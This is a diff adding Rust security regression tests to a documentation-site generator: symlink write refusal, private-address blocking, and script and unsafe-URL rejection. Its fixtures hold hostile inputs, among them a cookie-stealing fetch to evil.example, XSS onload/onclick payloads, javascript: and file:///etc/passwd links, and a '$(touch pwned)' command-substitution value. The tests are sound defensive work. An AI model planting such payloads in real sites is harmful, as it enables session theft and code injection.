@@ -729,3 +729,260 @@ fn the_projects_git_history_is_never_the_output() {
         .assert_stderr_has("error[output-overlaps-input]");
     assert_project_intact(&site);
 }
+
+// Issue 19: every write goes through one door, script is checked on what is
+// published, and addresses that reach an attribute pass one rule.
+
+/// Runs `manual args` in the fixture as typed, with no added flags.
+fn manual_in(site: &Fixture, args: &[&str]) -> common::Run {
+    let mut command = assert_cmd::Command::cargo_bin("manual").unwrap();
+    command.current_dir(site.dir.path()).args(args);
+    common::Run(command.output().unwrap())
+}
+
+/// A folder outside the fixture, with a file the tests check is untouched.
+fn outside_folder() -> tempfile::TempDir {
+    let outside = tempfile::tempdir().unwrap();
+    std::fs::write(outside.path().join("keep"), "theirs").unwrap();
+    outside
+}
+
+#[test]
+fn the_link_cache_is_never_written_through_a_linked_folder() {
+    let site = Fixture::new();
+    let outside = outside_folder();
+    std::os::unix::fs::symlink(outside.path(), site.path("h")).unwrap();
+    site.write(
+        "source/site.yml",
+        "external_links:\n  cache_file: h/.bashrc\n  retries: 0\n  timeout_seconds: 1\n",
+    );
+    site.page(
+        "a",
+        "Page A",
+        "Ops",
+        "[x](http://127.0.0.1:9/$(touch%20pwned))\n",
+    );
+    let run = site.run("check", &["--external"]);
+    assert!(
+        !outside.path().join(".bashrc").exists(),
+        "wrote through the link: {}",
+        run.stderr()
+    );
+    assert!(
+        run.stderr().contains("external-cache"),
+        "the refused write is reported: {}",
+        run.stderr()
+    );
+}
+
+#[test]
+fn check_external_requests_no_private_address_unless_allowed() {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    listener.set_nonblocking(true).unwrap();
+    let site = Fixture::new();
+    site.write(
+        "source/site.yml",
+        "external_links:\n  retries: 0\n  timeout_seconds: 1\n",
+    );
+    site.page(
+        "a",
+        "Page A",
+        "Ops",
+        &format!("[x](http://127.0.0.1:{port}/) [y](http://localhost:{port}/)\n"),
+    );
+    let run = site.run("check", &["--external", "--format", "json"]);
+    assert!(
+        listener.accept().is_err(),
+        "a private address was requested"
+    );
+    let refused: Vec<_> = run
+        .findings()
+        .into_iter()
+        .filter(|f| f.code == "link-external-unreachable" && f.message.contains("private"))
+        .collect();
+    assert_eq!(refused.len(), 2, "{}", run.stdout());
+}
+
+#[test]
+fn script_made_by_an_erb_layout_around_the_page_is_refused() {
+    let site = Fixture::new();
+    site.write("config/tech-docs.yml", "service_name: Split\n");
+    // Neither half runs script alone; the published page would.
+    site.write(
+        "source/layouts/split.erb",
+        "<% wrap_layout :layout do %><scr<%= yield %>ipt>alert(1)</scr<%= yield %>ipt><% end %>",
+    );
+    site.write(
+        "source/index.html.md",
+        "---\ntitle: Home\nlayout: split\n---\n",
+    );
+    let run = site.build(&["--skip-check"]);
+    assert_eq!(run.0.status.code(), Some(1), "{}", run.stderr());
+    run.assert_stderr_has("html-unsafe");
+    assert!(!site.path("build").exists(), "nothing is published");
+}
+
+#[test]
+fn script_in_theme_overrides_and_a_replaced_theme_script_are_refused() {
+    let site = Fixture::new();
+    site.write("source/site.yml", "enable_search: true\n");
+    site.page("a", "Page A", "Ops", "Text.\n");
+    // The whole theme, exported as it is, builds.
+    manual_in(&site, &["theme", "export"]).assert_ok();
+    site.build(&[]).assert_ok();
+
+    site.write(
+        "layouts/_page_title.html",
+        "<h1 onclick=\"x()\">{{ page.title }}</h1>\n",
+    );
+    site.build(&[])
+        .assert_failed()
+        .assert_stderr_has("html-unsafe");
+    manual_in(&site, &["theme", "export", "--force"]).assert_ok();
+
+    site.write(
+        "layouts/assets/logo.svg",
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"x()\"/>",
+    );
+    site.build(&[])
+        .assert_failed()
+        .assert_stderr_has("layouts/assets/logo.svg");
+    std::fs::remove_file(site.path("layouts/assets/logo.svg")).unwrap();
+
+    site.write(
+        "layouts/assets/search.js",
+        "fetch('https://evil.example/?'+document.cookie)\n",
+    );
+    let run = site.build(&[]);
+    run.assert_failed().assert_stderr_has("html-unsafe");
+    assert!(run.stderr().contains("search"), "{}", run.stderr());
+
+    site.write(
+        "source/site.yml",
+        "enable_search: true\nallow_script: true\n",
+    );
+    site.build(&[]).assert_ok();
+}
+
+#[test]
+fn a_source_url_that_is_not_a_web_address_is_refused_at_its_line() {
+    let site = Fixture::new();
+    for bad in [
+        "javascript:alert(1)",
+        "data:text/html,x",
+        "\" javascript:x\"",
+    ] {
+        site.write(
+            "source/manual/a.html.md",
+            format!("---\ntitle: A\nowner_slack: \"#t\"\nsection: S\nsource_url: {bad}\n---\nA.\n"),
+        );
+        let run = site.build(&["--skip-check"]);
+        assert!(!run.success(), "{bad}");
+        run.assert_stderr_has("source/manual/a.html.md:5");
+    }
+    site.write(
+        "source/site.yml",
+        "header_links:\n  Home: \"javascript:alert(1)\"\n",
+    );
+    site.write("source/manual/a.html.md", "---\ntitle: A\n---\nA.\n");
+    site.build(&["--skip-check"])
+        .assert_failed()
+        .assert_stderr_has("source/site.yml:2:3: error[link-unsafe]");
+    site.write(
+        "source/site.yml",
+        "footer_links:\n  Files: \"file:///etc/passwd\"\n",
+    );
+    site.build(&["--skip-check"])
+        .assert_failed()
+        .assert_stderr_has("source/site.yml:2:3: error[link-unsafe]");
+    site.write("source/site.yml", "service_link: \"data:text/html,x\"\n");
+    site.build(&["--skip-check"])
+        .assert_could_not_run()
+        .assert_stderr_has("settings-invalid");
+}
+
+#[test]
+fn a_cache_folder_of_the_users_is_neither_pruned_nor_marked() {
+    let site = Fixture::new();
+    site.page("a", "Page A", "Ops", "```bash\necho hi\n```\n");
+    let theirs = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(theirs.path().join("highlight-photos")).unwrap();
+    std::fs::write(theirs.path().join("highlight-photos/1.jpg"), "jpeg").unwrap();
+    let cache = theirs.path().to_str().unwrap();
+    let run = site.build(&["--cache-dir", cache]);
+    run.assert_ok();
+    assert!(theirs.path().join("highlight-photos/1.jpg").exists());
+    assert!(!theirs.path().join(".gitignore").exists());
+    run.assert_stderr_has("did not make");
+    // A new folder becomes manual's, and is used.
+    let new = theirs.path().join("cache");
+    site.build(&["--cache-dir", new.to_str().unwrap()])
+        .assert_ok();
+    assert!(new.join("CACHEDIR.TAG").is_file());
+}
+
+#[test]
+fn write_baseline_replaces_only_a_baseline() {
+    let site = Fixture::new();
+    site.page("a", "Page A", "Ops", "[x](/missing.html)\n");
+    let page = site.read("source/manual/a.html.md");
+    for target in ["source/manual/a.html.md", "README.md"] {
+        site.write("README.md", "# Ours\n");
+        let run = site.run("check", &["--write-baseline", target]);
+        assert_eq!(run.0.status.code(), Some(2), "{target}: {}", run.stderr());
+    }
+    assert_eq!(site.read("source/manual/a.html.md"), page);
+    assert_eq!(site.read("README.md"), "# Ours\n");
+    let outside = outside_folder();
+    std::os::unix::fs::symlink(outside.path().join("keep"), site.path("linked.json")).unwrap();
+    let run = site.run("check", &["--write-baseline", "linked.json"]);
+    assert_eq!(run.0.status.code(), Some(2), "{}", run.stderr());
+    assert_eq!(
+        std::fs::read_to_string(outside.path().join("keep")).unwrap(),
+        "theirs"
+    );
+    // A new baseline, and then the same one again, are written.
+    site.run("check", &["--write-baseline", "ci/baseline.json"])
+        .assert_ok();
+    site.run("check", &["--write-baseline", "ci/baseline.json"])
+        .assert_ok();
+}
+
+#[test]
+fn init_and_theme_export_never_write_through_a_link() {
+    let outside = outside_folder();
+    let site = Fixture::new();
+    std::os::unix::fs::symlink(outside.path().join("keep"), site.path("site.yml")).unwrap();
+    let run = manual_in(&site, &["init", ".", "--force"]);
+    assert_eq!(run.0.status.code(), Some(2), "{}", run.stderr());
+    run.assert_stderr_has("symbolic link");
+    assert_eq!(
+        std::fs::read_to_string(outside.path().join("keep")).unwrap(),
+        "theirs"
+    );
+
+    std::fs::create_dir_all(site.path("layouts")).unwrap();
+    std::os::unix::fs::symlink(outside.path(), site.path("layouts/assets")).unwrap();
+    let run = manual_in(&site, &["theme", "export", "--force"]);
+    assert_eq!(run.0.status.code(), Some(2), "{}", run.stderr());
+    run.assert_stderr_has("symbolic link");
+    assert!(!outside.path().join("search.js").exists());
+}
+
+#[test]
+fn an_old_path_that_names_a_folder_of_the_site_is_a_conflict_in_check() {
+    let site = Fixture::new();
+    site.write(
+        "source/manual/a.html.md",
+        "---\ntitle: A\nowner_slack: \"#t\"\nsection: S\nold_paths:\n  - /manual\n---\nA.\n",
+    );
+    let findings = site.check();
+    assert!(
+        findings.iter().any(|f| f.code == "url-conflict"
+            && f.file == "source/manual/a.html.md"
+            && f.message.contains("folder")),
+        "{findings:?}"
+    );
+    site.build(&["--skip-check"]).assert_failed();
+}
